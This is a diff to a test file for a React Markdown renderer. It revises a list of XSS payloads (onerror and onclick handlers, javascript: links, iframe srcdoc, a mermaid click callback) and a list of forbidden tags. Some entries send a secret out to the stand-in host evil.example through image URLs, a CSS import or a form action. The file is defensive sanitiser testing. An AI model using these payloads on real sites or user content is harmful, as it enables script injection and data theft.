@@ -8,15 +8,16 @@ import MarkdownView from "./MarkdownView";
 
 beforeAll(() => i18next.use(initReactI18next).init({ lng: "en", resources: { en: { translation: en } } }));
 
+// Values with "=" are quoted: CommonMark would take the tag for text.
 const HOSTILE = [
-  "<img src=x onerror=window.__pwned=1>",
+  "<img src=x onerror='window.__pwned=1'>",
   "<script>window.__pwned=1</script>",
-  "<svg onload=window.__pwned=1><use href='data:image/svg+xml,<svg/>'/></svg>",
+  "<svg onload='window.__pwned=1'><use href='data:image/svg+xml,<svg/>'/></svg>",
   "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
   "<a href='javascript:window.__pwned=1'>x</a>",
   "<style>@import url(https://evil.example/x.css)</style>",
   "<form action=https://evil.example><input name=q></form>",
-  "<details open ontoggle=window.__pwned=1>x</details>",
+  "<details open ontoggle='window.__pwned=1'>x</details>",
   "[x](javascript:window.__pwned=1)",
   "[x](JaVaScRiPt:window.__pwned=1)",
   "[x](java\tscript:window.__pwned=1)",
@@ -27,13 +28,13 @@ const HOSTILE = [
   "[x](/api/v1/session)",
   "<javascript:window.__pwned=1>",
   "![x](https://evil.example/?q=SECRET)",
-  "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
+  "[ref]: https://evil.example/?q=SECRET\n![x][ref]",
   "[![x](https://evil.example/a.png)](javascript:window.__pwned=1)",
   "```mermaid\ngraph TD; A-->B; click A call window.__pwned()\n```",
   "$\\href{javascript:window.__pwned=1}{x}$",
-  "- <b onmouseover=window.__pwned=1>x</b>",
-  "| <img src=x onerror=window.__pwned=1> |\n|---|\n| x |",
-  "<button value=1 onclick=window.__pwned=1>[1]</button>",
+  "- <b onmouseover='window.__pwned=1'>x</b>",
+  "| <img src=x onerror='window.__pwned=1'> |\n|---|\n| x |",
+  "<button value=1 onclick='window.__pwned=1'>[1]</button>",
 ];
 
 const FORBIDDEN = "script, img, svg, iframe, style, form, object, embed, link, meta, base, video, audio, picture, source, [srcdoc], [style], [src]";
